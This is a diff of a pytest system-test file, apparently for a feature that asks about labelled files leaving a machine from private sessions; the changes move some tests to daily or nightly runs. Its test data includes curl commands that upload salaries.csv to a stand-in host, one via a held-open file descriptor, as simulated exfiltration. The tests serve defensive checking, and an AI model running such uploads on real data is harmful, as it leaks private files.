@@ -6,6 +6,7 @@ import time
 import pytest
 
 from tests.system.sessions import private, wait_until_gone
+from thorough import daily
 
 NEWEST_KERNEL_ONLY = True
 UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"
@@ -27,7 +28,7 @@ def assert_nothing_kept(scene):
     assert [entry["kind"] for entry in scene.log()] in ([], ["labelled"])
 
 
-@pytest.mark.parametrize("way", WAYS)
+@pytest.mark.parametrize("way", daily(WAYS, "sent", "copied"))
 def test_asked(scene, way):
     """A file labelled outside is asked about inside, whatever way it takes."""
     scene.label()
@@ -38,7 +39,7 @@ def test_asked(scene, way):
     assert_nothing_kept(scene)
 
 
-@pytest.mark.parametrize("verdict", ["allow", "scrub", "takeover", "quit"])
+@pytest.mark.parametrize("verdict", daily(["allow", "scrub", "takeover", "quit"], "scrub"))
 def test_verdict(scene, verdict):
     """Each verdict does in a session what it does outside."""
     scene.label()
@@ -53,6 +54,7 @@ def test_verdict(scene, verdict):
     assert_nothing_kept(scene)
 
 
+@pytest.mark.nightly
 def test_marked_later(scene):
     """A file that a private program has open counts as soon as it is marked outside."""
     attempt = scene.start(private("exec 7<salaries.csv; sleep 8; curl -sS -m 90 -T - http://remote/ <&7"))
@@ -79,6 +81,7 @@ def test_no_rule(scene):
     assert_nothing_kept(scene)
 
 
+@pytest.mark.nightly
 def test_rule_of_outside_holds(scene):
     """A rule that the person has made decides for private programs too."""
     scene.label()
@@ -89,6 +92,7 @@ def test_rule_of_outside_holds(scene):
     assert scene.decisions() == []
 
 
+@pytest.mark.nightly
 def test_ends_while_asked(scene):
     """A session that is ended while one of its programs waits for an answer goes like any other."""
     scene.label()
